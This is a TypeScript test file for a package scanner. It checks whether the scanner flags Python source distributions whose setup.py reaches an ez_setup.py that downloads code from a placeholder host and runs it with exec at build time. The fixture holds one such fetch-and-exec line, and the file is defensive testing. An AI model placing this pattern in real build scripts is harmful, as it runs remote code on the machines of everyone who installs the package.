import t from 'tap'
import { inspect } from '../../src/inspection/inspect.ts'
import { sha256 } from '../../src/model/digest.ts'
import { packedReading } from './python-reading.ts'

const FETCHES =
  'import urllib.request\ndef use_setuptools():\n    exec(urllib.request.urlopen("https://keeper.invalid/e").read())\n'
const USES = 'from ez_setup import use_setuptools\n    use_setuptools()\n'
const SETUP = 'from setuptools import setup\nsetup(name="a")\n'

/** Whether something that a build runs fetches code and runs it. */
async function fetchesAtBuild(setup: string): Promise<boolean> {
  const files = {
    'PKG-INFO': 'Metadata-Version: 2.1\nName: a\nVersion: 1.0\n',
    'setup.py': setup,
    'ez_setup.py': FETCHES,
  }
  const { findings } = await inspect(await packedReading('sdist', files), { digest: sha256('x'), readAs: 'sdist-gzip' })
  return findings.some(({ check, moment }) => check === 'download-and-execute' && moment === 'build')
}

/** What stands in for setuptools, which every build has. */
const STANDS_IN: Readonly<Record<string, string>> = {
  'below an import of a name': `try:\n    from setuptools import setup\nexcept ImportError:\n    ${USES}${SETUP}`,
  'below an import of several names': `try:\n    from setuptools import setup, find_packages\nexcept ImportError:\n    ${USES}${SETUP}`,
  'below an import of the module': `try:\n    import setuptools\nexcept (ImportError):\n    ${USES}${SETUP}`,
  'by the other name of the error': `try:\n    import setuptools\nexcept ModuleNotFoundError:\n    ${USES}${SETUP}`,
}

const RUNS: Readonly<Record<string, string>> = {
  'without a condition': `if 1:\n    ${USES}${SETUP}`,
  'below an import of what setuptools never had': `try:\n    from setuptools import nosuch\nexcept ImportError:\n    ${USES}${SETUP}`,
  'below that and one that it has': `try:\n    from setuptools import setup, nosuch\nexcept ImportError:\n    ${USES}${SETUP}`,
  'below an import of something else besides': `try:\n    import setuptools\n    import nosuch\nexcept ImportError:\n    ${USES}${SETUP}`,
  'below a statement that fails': `try:\n    import setuptools\n    raise ImportError\nexcept ImportError:\n    ${USES}${SETUP}`,
  'on any error': `try:\n    import setuptools\nexcept Exception:\n    ${USES}${SETUP}`,
  'where nothing is missing': `try:\n    import setuptools\nexcept ImportError:\n    pass\nelse:\n    ${USES}${SETUP}`,
  'in the end': `try:\n    import setuptools\nfinally:\n    ${USES}${SETUP}`,
}

t.test('what a build does that has no setuptools, and what every build does', async (t) => {
  for (const [situation, setup] of Object.entries(STANDS_IN)) t.equal(await fetchesAtBuild(setup), false, situation)
  for (const [situation, setup] of Object.entries(RUNS)) t.equal(await fetchesAtBuild(setup), true, situation)
})
